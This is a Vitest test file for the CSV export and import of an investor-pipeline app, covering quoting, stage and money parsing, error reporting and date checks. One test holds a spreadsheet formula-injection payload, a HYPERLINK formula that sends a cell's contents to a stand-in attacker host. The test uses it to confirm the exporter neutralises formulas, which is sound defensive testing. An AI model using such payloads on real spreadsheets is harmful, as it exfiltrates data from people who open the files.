import { describe, expect, it } from 'vitest';
import { isCalendarDate } from '../../core/contracts/pipeline';
import { pipelineCsv, readPipelineCsv } from './csv';

const ENTRY = {
  id: '1',
  investor_id: null,
  name: 'Bob',
  firm: null,
  email: null,
  from_interest: false,
  website: null,
  stage: 'contacted' as const,
  position: 0,
  pass_reason: null,
  expected_amount: null,
  committed_amount: null,
  next_follow_up: null,
  intro_subject: null,
  intro_body: null,
  warm: { advisors: [], coInvestors: [], contact: null },
  created_at: '',
  updated_at: '',
};

describe('pipeline CSV', () => {
  it('writes rows a spreadsheet reads back, quoting what needs it', () => {
    const csv = pipelineCsv([
      {
        id: '1',
        investor_id: null,
        name: 'Bob, the angel',
        firm: 'Say "hi"',
        email: null,
        from_interest: false,
        website: null,
        stage: 'term_sheet',
        position: 0,
        pass_reason: null,
        expected_amount: 5000,
        committed_amount: null,
        next_follow_up: '2026-12-01',
        intro_subject: null,
        intro_body: null,
        warm: { advisors: [], coInvestors: [], contact: null },
        created_at: '',
        updated_at: '',
      },
    ]);
    expect(csv.split('\n')[1]).toBe('"Bob, the angel","Say ""hi""",,,Term sheet,5000,,2026-12-01,');
    const back = readPipelineCsv(csv);
    expect(back.errors).toEqual([]);
    expect(back.rows[0]).toMatchObject({
      name: 'Bob, the angel',
      firm: 'Say "hi"',
      stage: 'term_sheet',
      expected_amount: 5000,
    });
  });

  it('reads stages by key or label, money with $ and commas, and reports every problem of the file at once', () => {
    const { rows, errors } = readPipelineCsv(
      '\uFEFFName,Stage,Expected_Amount,Next_Follow_Up\nA,due_diligence,"$1,500",\nB,Nope,,\nC,,12.5,\nD,,,2026-02-30\n,,,\nE,Nope,-3,2026-02-30\n',
    );
    expect(rows.map((r) => [r.name, r.stage, r.expected_amount])).toEqual([['A', 'due_diligence', 1500]]);
    expect(errors).toEqual([
      { line: 3, message: 'stage "Nope" is not a pipeline stage' },
      { line: 4, message: 'expected_amount must be whole dollars' },
      { line: 5, message: 'next_follow_up must be a date (YYYY-MM-DD)' },
      { line: 6, message: 'name is required' },
      { line: 7, message: 'stage "Nope" is not a pipeline stage' },
      { line: 7, message: 'expected_amount must be whole dollars' },
      { line: 7, message: 'next_follow_up must be a date (YYYY-MM-DD)' },
    ]);
    expect(readPipelineCsv('firm\nX\n').errors).toEqual([
      { line: 1, message: 'The header needs a "name" column' },
    ]);
  });

  it('exports a formula as text, and imports it back as the name it was', () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const csv = pipelineCsv([{ ...ENTRY, name, firm: '@SUM(A1)', email: null, pass_reason: '-1+1' }]);
    const line = csv.split('\n')[1]!;
    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(line).toContain("'@SUM(A1)");
    expect(line).toContain("'-1+1");
    const back = readPipelineCsv(csv);
    expect(back.rows[0]).toMatchObject({ name, firm: '@SUM(A1)', pass_reason: '-1+1' });
  });

  it('reads a blank stage as no stage, for the import to keep the entry as it is', () => {
    expect(readPipelineCsv('name,stage\nAda,\n').rows[0]).toMatchObject({
      name: 'Ada',
      stage: null,
      line: 2,
    });
  });

  it('knows a calendar date', () => {
    expect(isCalendarDate('2028-02-29')).toBe(true);
    expect(isCalendarDate('2027-02-29')).toBe(false);
    expect(isCalendarDate('2026-13-01')).toBe(false);
  });
});
